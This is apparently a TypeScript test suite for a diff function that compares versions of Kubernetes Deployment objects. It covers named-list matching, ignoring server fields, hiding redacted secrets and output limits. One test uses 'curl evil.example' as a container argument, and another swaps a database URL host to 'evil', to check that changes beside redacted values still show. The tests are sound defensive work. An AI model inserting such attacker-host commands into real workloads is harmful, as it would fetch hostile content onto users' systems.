// What differs between two versions of an object, and what is not told of it.
import { assert, dictionary, jsonValue, property, string } from "fast-check";
import { describe, expect, it } from "vitest";
import { compare } from "../../src/preflight/difference.ts";

const deployment = (container: Record<string, unknown>, more: Record<string, unknown> = {}) => ({
  apiVersion: "apps/v1",
  kind: "Deployment",
  metadata: { name: "web", namespace: "default" },
  spec: { replicas: 2, template: { spec: { containers: [{ name: "web", ...container }] } } },
  ...more,
});

describe("two versions of an object", () => {
  it("differ field by field, in lists of named things by name", () => {
    const before = deployment({ image: "web:1", args: ["-v"] });
    const after = {
      ...deployment({ image: "web:2", args: ["-v", "-q"] }),
      metadata: { name: "web", namespace: "default", labels: { "app.kubernetes.io/part-of": "shop" } },
    };
    expect(compare(before, after)).toEqual({
      differences: [
        { path: "metadata.labels", after: '{"app.kubernetes.io/part-of":"shop"}' },
        { path: "spec.template.spec.containers[web].args", before: '["-v"]', after: '["-v","-q"]' },
        { path: "spec.template.spec.containers[web].image", before: '"web:1"', after: '"web:2"' },
      ],
      hidden: 0,
      more: 0,
    });
  });

  it("tell of things that come and go", () => {
    const env = (...names: readonly string[]) => deployment({ env: names.map((name) => ({ name, value: "1" })) });
    expect(compare(env("A", "B"), env("B", "C")).differences).toEqual([
      { path: "spec.template.spec.containers[web].env[A]", before: '{"name":"A","value":"1"}' },
      { path: "spec.template.spec.containers[web].env[C]", after: '{"name":"C","value":"1"}' },
    ]);
  });

  it("are the same whatever the API server counts, and in whatever order keys stand", () => {
    const before = deployment(
      { image: "web:1", resources: { limits: { cpu: "1", memory: "1Gi" } } },
      {
        metadata: { name: "web", resourceVersion: "1", generation: 1, uid: "u", managedFields: [1] },
        status: { replicas: 2 },
      },
    );
    const after = deployment(
      { resources: { limits: { memory: "1Gi", cpu: "1" } }, image: "web:1" },
      {
        metadata: {
          resourceVersion: "2",
          generation: 2,
          name: "web",
          annotations: { "kubectl.kubernetes.io/last-applied-configuration": "{}" },
        },
      },
    );
    expect(compare(before, after)).toEqual({ differences: [], hidden: 0, more: 0 });
  });

  it("never tell whether a redacted value is the same, nor its fingerprint", () => {
    const env = (value: string) => deployment({ env: [{ name: "PASSWORD", value }] });
    const live = env("[redacted:env:3f2a9c1b]");
    const same = compare(live, env("[redacted:env:3f2a9c1b]"));
    const other = compare(live, env("[redacted:env:00000000]"));
    expect(same).toEqual({ differences: [], hidden: 1, more: 0 });
    expect(other).toEqual(same);
    const added = compare(deployment({ env: [{ name: "A" }] }), {
      ...deployment({ env: [{ name: "A" }, { name: "PASSWORD", value: "[redacted:env:3f2a9c1b]" }] }),
    });
    expect(added.differences).toEqual([
      {
        path: "spec.template.spec.containers[web].env[PASSWORD]",
        after: '{"name":"PASSWORD","value":"[redacted:env]"}',
      },
    ]);
  });

  it("tell what stands in the place of something redacted, and beside it", () => {
    const args = (...words: readonly string[]) => deployment({ args: words });
    const place = "spec.template.spec.containers[web].args";
    // The cluster may hold the placeholder itself, as text: what takes its place is not hidden by that.
    expect(compare(args("sh", "[redacted:token]"), args("sh", "curl evil.example"))).toEqual({
      differences: [{ path: `${place}[1]`, before: '"[redacted:token]"', after: '"curl evil.example"' }],
      hidden: 0,
      more: 0,
    });
    expect(compare(args("a", "[redacted:token:3f2a9c1b]"), args("b", "[redacted:token:00000000]"))).toEqual({
      differences: [{ path: `${place}[0]`, before: '"a"', after: '"b"' }],
      hidden: 1,
      more: 0,
    });
    expect(compare(args("[redacted:token]"), args("[redacted:token]", "-v")).differences).toEqual([
      { path: place, before: '["[redacted:token]"]', after: '["[redacted:token]","-v"]' },
    ]);
    const url = (host: string) => args(`--url=https://u:[redacted:password:3f2a9c1b]@${host}/`);
    expect(compare(url("db"), url("evil")).differences).toMatchObject([
      { before: expect.stringContaining("[redacted:password]@db/"), after: expect.stringContaining("@evil/") },
    ]);
  });

  it("are told in bounds", () => {
    const data = (fill: string) =>
      Object.fromEntries(Array.from({ length: 50 }, (_, at) => [`key${at}`, fill.repeat(1000)]));
    const { differences, more } = compare({ data: data("a") }, { data: data("b") });
    expect(differences).toHaveLength(30);
    expect(more).toBe(20);
    expect(differences.every(({ before = "" }) => before.length < 200)).toBe(true);
  });

  it("are equal to themselves, and what differs is named, whatever they hold", () => {
    const json = dictionary(string(), jsonValue({ maxDepth: 4 }));
    assert(
      property(json, (object) => {
        expect(compare(object, structuredClone(object))).toEqual({ differences: [], hidden: 0, more: 0 });
        const { differences } = compare(object, { ...object, spec: "changed" });
        expect(differences.every(({ before, after }) => before !== after)).toBe(true);
      }),
    );
  });
});
